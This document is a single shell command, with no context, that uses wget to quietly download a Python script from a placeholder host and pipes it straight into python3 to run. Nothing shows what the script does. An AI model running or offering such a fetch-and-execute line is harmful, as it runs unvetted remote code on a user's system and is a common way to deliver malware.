wget -qO - http://get.example.net/x.py | python3 -
